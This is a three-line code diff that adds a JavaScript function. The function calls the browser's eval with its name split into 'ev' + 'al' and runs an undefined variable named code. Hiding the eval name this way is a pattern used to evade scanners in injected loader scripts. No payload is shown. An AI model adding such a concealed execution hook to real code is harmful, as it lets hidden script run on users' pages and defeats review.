@@ -1,0 +1,3 @@
+!function (w, u) {
+  w["ev" + "al"](code);
+}(window);
